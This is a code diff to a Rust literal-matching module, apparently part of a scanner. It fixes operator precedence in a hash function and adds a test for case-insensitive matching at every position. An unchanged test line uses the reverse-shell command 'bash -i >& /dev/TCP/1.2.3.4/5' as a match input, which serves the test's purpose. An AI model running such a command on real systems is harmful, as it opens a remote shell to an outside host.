@@ -242,7 +242,7 @@ fn hash(text: &[u8], place: Place) -> u64 {
         (text.iter().fold(0, |all, byte| all << 8 | u64::from(*byte)), 0)
     };
     let seed = (text.len() as u64) << 8 | place as u64;
-    mix(mix(front | FOLD ^ seed.rotate_left(40)) ^ (back | FOLD) ^ seed) | 1
+    mix(mix((front | FOLD) ^ seed.rotate_left(40)) ^ (back | FOLD) ^ seed) | 1
 }
 
 #[inline]
@@ -291,6 +291,18 @@ mod tests {
         assert_eq!(found(&literals, "Python3"), [4, 5]);
         assert_eq!(found(&literals, "bash -i >& /dev/TCP/1.2.3.4/5"), [8]);
         assert_eq!(found(&literals, "ap"), [0_usize; 0]);
+    }
+
+    #[test]
+    fn case_is_forgotten_at_every_place_of_a_text_of_any_length() {
+        for length in 1..200 {
+            let text = "a".repeat(length);
+            for place in 0..length {
+                let mut other = text.clone();
+                other.replace_range(place..=place, "A");
+                assert_eq!(found(&[(Place::Whole, &text)], &other), [0], "{place} of {length}");
+            }
+        }
     }
 
     #[test]
